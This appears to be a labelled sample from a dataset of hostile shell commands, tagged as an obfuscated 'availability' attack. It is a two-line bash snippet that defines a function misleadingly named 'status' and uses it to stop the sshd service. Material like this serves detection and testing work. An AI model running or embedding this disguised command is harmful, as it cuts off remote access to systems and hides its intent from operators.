# description: Defines a function named status that stops whatever service it is given, then calls it on sshd.
# family: availability
# obfuscated: yes
status() { systemctl stop "$1"; }
status sshd
